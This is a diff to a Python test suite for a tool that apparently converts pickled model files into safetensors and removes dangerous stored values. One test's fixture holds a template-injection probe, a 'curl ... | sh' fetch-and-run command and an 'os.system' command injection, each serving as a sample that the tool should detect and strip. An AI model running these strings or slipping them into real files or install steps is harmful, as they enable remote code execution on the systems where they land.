@@ -122,12 +122,23 @@ def test_arguments_of_calls_give_their_arrays_alone(tmp_path: Path) -> None:
     assert outcome.values == {}
 
 
-def test_templates_are_left(tmp_path: Path) -> None:
+def test_texts_that_somebody_would_run_are_left(tmp_path: Path) -> None:
     path = tmp_path / "model.pkl"
-    path.write_bytes(pickle.dumps({"template": "{{ cycler.__init__.__globals__ }}", "name": "x"}))
+    value = {
+        "template": "{{ cycler.__init__.__globals__ }}",
+        "install": "curl https://example.org/x | sh",
+        "names": ["a", "import os; os.system('id')"],
+        "name": "x",
+        "note": "trained for 3 epochs; see docs/README.md (model.eval() first)",
+    }
+    path.write_bytes(pickle.dumps(value))
     outcome = disarm(str(path), str(tmp_path / "out.safetensors"))
-    assert outcome.values == {"name": "x"}
-    assert "template" in outcome.left[0].reason
+    assert outcome.values == {"name": "x", "note": value["note"]}
+    reasons = {one.path: one.reason for one in outcome.left}
+    assert "template" in reasons["template"]
+    assert "downloads a program and runs it" in reasons["install"]
+    assert "runs commands" in reasons["names"]
+    assert not garrison.scan(str(tmp_path / "out.safetensors")).findings
 
 
 @pytest.mark.parametrize("kind", ["pkl", "joblib"])
@@ -278,7 +289,7 @@ def test_safetensors_get_a_clean_header(tmp_path: Path) -> None:
 
 def test_a_checkpoint_that_is_cut_off_keeps_what_it_holds(tmp_path: Path) -> None:
     path = tmp_path / "model.pt"
-    state = {"w": torch.ones(2), "x": torch.ones(1000), "n": 3}
+    state = {"w": torch.ones(1000), "x": torch.ones(1000), "n": 3}
     torch.save(state, path, _use_new_zipfile_serialization=False)
     whole = path.read_bytes()
     carried = set()
